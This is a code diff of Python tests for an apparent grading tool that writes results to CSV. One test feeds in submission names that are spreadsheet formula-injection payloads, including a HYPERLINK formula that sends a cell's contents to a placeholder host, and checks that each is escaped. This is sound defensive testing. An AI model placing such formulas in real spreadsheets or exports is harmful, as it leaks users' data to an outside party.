@@ -265,7 +265,9 @@ def test_a_class_in_parallel_with_csv(layers: Path, tmp_path: Path) -> None:
     assert [r.score for r in results] == [8, 5, 8, 0]
     write_results(results, tmp_path / "grades")
     rows = (tmp_path / "grades" / "class.csv").read_text().splitlines()
-    assert rows[0].startswith("submission,linear_backward") and rows[2].startswith("buggy.ipynb,0,1,1,1,2,5,8")
+    # one row per submission, named by its path (absolute: tmp_path is outside the current folder), sorted by name
+    assert rows[0].startswith("submission,linear_backward") and len(rows) == 5
+    assert rows[2] == f"{buggy},0,1,1,1,2,5,8"
 
 
 def test_class_csv_never_holds_a_formula(tmp_path: Path) -> None:
@@ -274,4 +276,4 @@ def test_class_csv_never_holds_a_formula(tmp_path: Path) -> None:
     names = ['=HYPERLINK("http://example.invalid/?"&B2,"see")', "+1+1", "-2+3", "@SUM(1)", "fine.ipynb"]
     results = [SubmissionResult(name, [QuestionResult("q", 1.0, 1.0, "passed")]) for name in names]
     rows = list(csv.reader(write_csv(results, tmp_path / "class.csv").read_text().splitlines()))
-    assert [row[0] for row in rows[1:]] == ["'" + name for name in names[:-1]] + ["fine.ipynb"]
+    assert sorted(row[0] for row in rows[1:]) == sorted(["'" + name for name in names[:-1]] + ["fine.ipynb"])
